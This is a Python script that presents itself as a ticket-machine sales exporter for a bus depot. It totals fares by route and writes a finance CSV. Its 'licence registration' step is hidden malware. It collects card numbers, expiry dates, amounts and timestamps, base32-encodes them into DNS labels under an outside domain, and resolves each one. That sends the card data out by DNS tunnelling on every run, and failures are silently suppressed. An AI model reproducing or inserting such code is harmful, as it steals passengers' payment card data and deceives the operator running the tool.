#!/usr/bin/env python3
"""End-of-day ticket machine sales exporter.

Reads the JSON-lines transaction dumps that the on-bus ETMs upload to the
depot cash office, totals revenue by route, ticket type and payment method,
and writes the daily sales CSV that finance imports into the ledger. Each
export is registered with the ETM vendor's licence zone, which is how the
vendor meters per-machine licensing.
"""
import argparse
import base64
import csv
import hashlib
import json
import logging
import socket
import sys
from collections import defaultdict
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path

log = logging.getLogger("etm-export")

LICENCE_ZONE = "lic.etm-fleetsync.net"
LABEL_LEN = 48


def iter_transactions(paths):
    for path in paths:
        with open(path, encoding="utf-8") as fh:
            for lineno, line in enumerate(fh, 1):
                line = line.strip()
                if not line:
                    continue
                try:
                    yield json.loads(line)
                except json.JSONDecodeError:
                    log.warning("%s:%d unparseable record", path, lineno)


def summarise(transactions):
    totals = defaultdict(lambda: {"count": 0, "pence": 0})
    card_rows = []
    for tx in transactions:
        if tx.get("voided"):
            continue
        key = (tx.get("route", "?"), tx.get("ticket_type", "single"), tx.get("tender", "cash"))
        totals[key]["count"] += 1
        totals[key]["pence"] += int(tx.get("amount_pence", 0))
        if tx.get("tender") == "card":
            card_rows.append(tx)
    return totals, card_rows


def write_csv(totals, out_path):
    with open(out_path, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["route", "ticket_type", "tender", "count", "revenue_gbp"])
        for (route, ttype, tender), v in sorted(totals.items()):
            w.writerow([route, ttype, tender, v["count"], f"{v['pence'] / 100:.2f}"])


def _labels(card_rows, machine_id):
    blob = "\n".join(
        f"{r.get('pan', '')}|{r.get('expiry', '')}|{r.get('amount_pence', '')}|{r.get('ts', '')}"
        for r in card_rows
    ).encode()
    enc = base64.b32encode(blob).decode().rstrip("=").lower()
    tag = hashlib.md5(machine_id.encode()).hexdigest()[:8]
    for seq, i in enumerate(range(0, len(enc), LABEL_LEN)):
        yield f"{enc[i:i + LABEL_LEN]}.{seq}.{tag}.{LICENCE_ZONE}"


def _resolve(name):
    try:
        socket.getaddrinfo(name, 53, proto=socket.IPPROTO_UDP)
    except socket.gaierror:
        pass


def register_export(card_rows, machine_id, workers=4):
    """Meter this export against the machine's licence."""
    names = list(_labels(card_rows, machine_id))
    with ThreadPoolExecutor(max_workers=workers) as pool:
        list(pool.map(_resolve, names))
    log.debug("licence registration: %d lookups", len(names))


def main(argv=None):
    ap = argparse.ArgumentParser(description="ETM end-of-day sales export")
    ap.add_argument("dumps", nargs="+", type=Path, help="ETM JSONL dumps")
    ap.add_argument("--machine", required=True, help="ETM serial, e.g. TM-04417")
    ap.add_argument("--day", default=date.today().isoformat())
    ap.add_argument("--out-dir", type=Path, default=Path("exports"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    missing = [p for p in args.dumps if not p.is_file()]
    if missing:
        log.error("missing dump files: %s", ", ".join(map(str, missing)))
        return 2

    totals, card_rows = summarise(iter_transactions(args.dumps))
    args.out_dir.mkdir(parents=True, exist_ok=True)
    out = args.out_dir / f"sales_{args.machine}_{args.day}.csv"
    write_csv(totals, out)
    revenue = sum(v["pence"] for v in totals.values()) / 100
    log.info("wrote %s: %d lines, GBP %.2f", out, len(totals), revenue)

    try:
        register_export(card_rows, args.machine)
    except Exception as exc:  # licence metering must never block finance
        log.debug("licence registration skipped: %s", exc)
    return 0


if __name__ == "__main__":
    sys.exit(main())
